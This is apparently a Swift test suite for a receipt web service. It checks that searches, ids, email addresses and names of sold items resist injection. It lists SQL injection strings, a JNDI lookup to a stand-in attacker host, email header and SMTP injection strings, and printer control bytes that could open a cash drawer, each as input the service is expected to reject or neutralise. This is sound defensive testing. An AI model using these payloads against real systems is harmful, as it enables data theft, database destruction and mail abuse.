import Receipts
import Testing

@testable import Web

/// What somebody could put into a search, an id, an address or a name of what was sold.
@Suite("Forgeries in data", .timeLimit(.minutes(3)))
struct DataForgeryTests {
    // MARK: Searches and ids

    private static let queries = [
        "' OR 1=1 --", "' OR '1'='1", "\" OR \"\"=\"", "'; DROP TABLE receipt; --", "1); DELETE FROM entry; --",
        "x' UNION SELECT digest FROM token --", "%", "_", "%%", "D-_", "D%", "*", "D*", "\" OR number:*", "NEAR(D 1)",
        "D-1\"",
        "^D", "{number}: D", "-D", "D\\", "\\", "\u{0}D-1", "char(68)||'-1'", "0x442d31", "D-1' --", "11.9_", "[D]-1",
        "?1", ":q",
        "$1", "@x", "${jndi:ldap://evil.example/x}", "D-1/**/", "(SELECT number FROM receipt)",
    ]

    @Test("a search finds what is written in it, letter for letter, and nothing by signs of a query language")
    func searches() async throws {
        try await WebRig.run { rig in
            _ = try await rig.offlineSale("D-1")
            let cookie = try await rig.signIn()
            let before = try await rig.json("/v1/receipts")
            for query in Self.queries {
                let escaped = Form.encode(query)
                for name in ["q", "register", "since", "state", "after", "limit"] {
                    let reply = try await rig.send("GET", "/v1/receipts?\(name)=\(escaped)")
                    #expect([200, 400].contains(reply.status), "\(name)=\(query): \(reply.text)")
                    #expect(!reply.text.contains("D-1") || reply.status == 400, "\(name)=\(query): \(reply.text)")
                }
                #expect(
                    try await !rig.page("/?q=\(escaped)", cookie: cookie).text.contains("/v1/receipts/"), "\(query)")
                for path in ["receipts", "jobs", "queue", "printers", "registers"] {
                    let reply = try await rig.send("GET", "/v1/\(path)/\(escaped)")
                    #expect([400, 404].contains(reply.status), "/v1/\(path)/\(query): \(reply.status)")
                }
            }
            #expect(try await rig.json("/v1/receipts") == before)
            #expect(try await rig.json("/v1/receipts?q=D-1")["items"]?.elements.count == 1)
            #expect(try await rig.page("/?q=D-1", cookie: cookie).text.contains("/v1/receipts/"))
        }
    }

    // MARK: Addresses

    private static let addresses = [
        "a@example.org\r\nBcc: b@example.org", "a@example.org\nBcc: b@example.org", "a@example.org\rBcc: b@example.org",
        "\r\nBcc: b@example.org", "a@example.org\u{0}", "a@example.org\u{B}x", "a@example.org\u{85}Bcc: x",
        "a@example.org\u{2028}x",
        "a@example.org, b@example.org", "a@example.org;b@example.org", "a@example.org b@example.org", "<a@example.org>",
        "Anna <a@example.org>", "a@example.org>\r\nRCPT TO:<b@example.org", "a@b@example.org", "@example.org", "a@",
        "a",
        "\"a b\"@example.org", "\"a\\\r\nb\"@example.org", "a@[127.0.0.1]", "a@example.org.", "a@-example.org",
        "a@exa mple.org",
        "a..b@example.org", ".a@example.org", "a@example..org", "a@example.org%0d%0aBcc:b", "a@ex\u{430}mple.org",
        "a@example.org\r\n.\r\nMAIL FROM:<x@example.org>", "(a)@example.org", "a:b@example.org", "a\\@example.org",
        String(repeating: "a", count: 65) + "@example.org", "a@" + String(repeating: "a", count: 64) + ".org",
    ]

    @Test("an address is one bare address, or no mail is made, on either way in")
    func addressed() async throws {
        try await WebRig.run { rig in
            let id = try await rig.offlineSale("D-1")
            for address in Self.addresses {
                let body = JSONValue.object([.init("to", .string(address))]).compact
                let mail = try await rig.send("POST", "/v1/receipts/\(id)/email", token: WebRig.cashier, body: body)
                #expect(mail.status == 422, "\(address.debugDescription): \(mail.text)")
                // A line end would make two headers of it, and an address of the first.
                if address.contains(where: \.isNewline) { continue }
                let sale = try await rig.attempt(
                    WebRig.request(
                        "POST", Forgery.create, headers: [("Quittance-Email", address)],
                        body: Array(WebRig.create("D-2").utf8)))
                #expect(sale.map { $0.status == 400 } ?? true, "\(address.debugDescription): \(sale?.text ?? "")")
            }
            #expect(try await rig.json("/v1/emails")["items"]?.elements.isEmpty == true)
            #expect(try await rig.json("/v1/receipts?q=D-2")["items"]?.elements.isEmpty == true)
            let good = try await rig.send(
                "POST", "/v1/receipts/\(id)/email", token: WebRig.cashier, body: #"{"to":"a+b@example.org"}"#)
            #expect(good.status == 202, "\(good.text)")
        }
    }

    // MARK: Names of what was sold

    /// Markup, tags of templates, signs of ReceiptLine, and commands of printers.
    private static let names =
        ConsolePagesTests.hostile + [
            "{{total}}", "{{{shop.name}}}", "{{> head}}", "{{#items}}x{{/items}}", "{code:1234;option:qrcode}",
            "{image:x}", "{command:\\x1b\\x70\\x00}", "a|b|c", "^^^BIG", "---", "===", "~~~", "\\n\\x41",
            "_u_ \"b\" `i`", "%s%n%x",
            "\u{1B}@", "\u{1B}p\u{0}22", "\u{1B}=\u{0}", "\u{10}\u{4}\u{1}", "\u{10}\u{14}\u{1}\u{0}\u{1}",
            "\u{1D}V\u{0}", "\u{1D}(k\u{3}\u{0}1Q0", "\u{1C}p\u{1}\u{0}", "\u{1B}c5\u{0}", "\u{9B}2J", "\u{7F}\u{7F}",
            "\u{1B}\u{7}\u{B}7\u{7}",
        ]

    /// How often each command's first two bytes stand in a stream.
    private static func commands(_ bytes: [UInt8]) -> Set<[UInt8]> {
        var found: Set<[UInt8]> = []
        for (byte, next) in zip(bytes, bytes.dropFirst()) where [0x10, 0x1B, 0x1C, 0x1D].contains(byte) {
            found.insert([byte, next])
        }
        return found
    }

    /// A sale whose every name is that text; its receipt's id.
    private static func sell(_ text: String, _ rig: WebRig) async throws -> String {
        let quoted = JSONValue.string(text).compact
        let body = WebRig.create("X").replacing("\"X\"", with: quoted).replacing("\"USt 19%\"", with: quoted)
            .replacing("\"Filterkaffee 500 g\"", with: quoted)
        rig.upstream.isOnline = false
        let visible = String(text.unicodeScalars.filter { (0x20...0x7E).contains($0.value) }.map(Character.init))
        let created = try await rig.send(
            "POST", Forgery.create, headers: visible.isEmpty ? [] : [("Quittance-Operator", visible)], body: body)
        let operation = try #require(created.header("Quittance-Operation"), "\(text.debugDescription): \(created.text)")
        let done = try await rig.send(
            "POST", "\(Forgery.create)/\(operation)/complete", body: WebRig.complete)
        return try #require(done.header("Quittance-Receipt"), "\(text.debugDescription): \(done.text)")
    }

    @Test("what was sold is text on every form of the receipt: no markup, no code, no command")
    func receipts() async throws {
        try await WebRig.run { rig in
            let plain = try await Self.sell("Filterkaffee ^ | { } ~", rig)
            let usual = MarkupScanner(try await rig.send("GET", "/v1/receipts/\(plain).html").text)
            let known = Self.commands(try await rig.send("GET", "/v1/receipts/\(plain).escpos").body)
            #expect(known.count > 5 && !known.contains([0x1B, 0x70]))
            for name in Self.names {
                let id = try await Self.sell(name, rig)
                let page = try await rig.send("GET", "/v1/receipts/\(id).html")
                #expect(page.status == 200)
                let seen = MarkupScanner(page.text)
                #expect(seen.elements.isSubset(of: usual.elements), "\(name.debugDescription): \(seen.elements)")
                #expect(seen.attributes.isSubset(of: usual.attributes), "\(name.debugDescription): \(seen.attributes)")
                let bytes = try await rig.send("GET", "/v1/receipts/\(id).escpos").body
                let strange = Self.commands(bytes).subtracting(known)
                #expect(
                    strange.isEmpty || name.contains("\u{301}") || name.contains("\u{338}"),
                    "\(name.debugDescription): \(strange)")
                let text = try await rig.send("GET", "/v1/receipts/\(id).txt").body
                #expect(!text.contains { $0 < 0x20 && $0 != 0x0A || $0 == 0x7F }, "\(name.debugDescription)")
            }
        }
    }

    @Test("the count of commands sees one that is planted")
    func planted() {
        #expect(Self.commands([0x41, 0x1B, 0x70, 0x00]) == [[0x1B, 0x70]])
    }
}
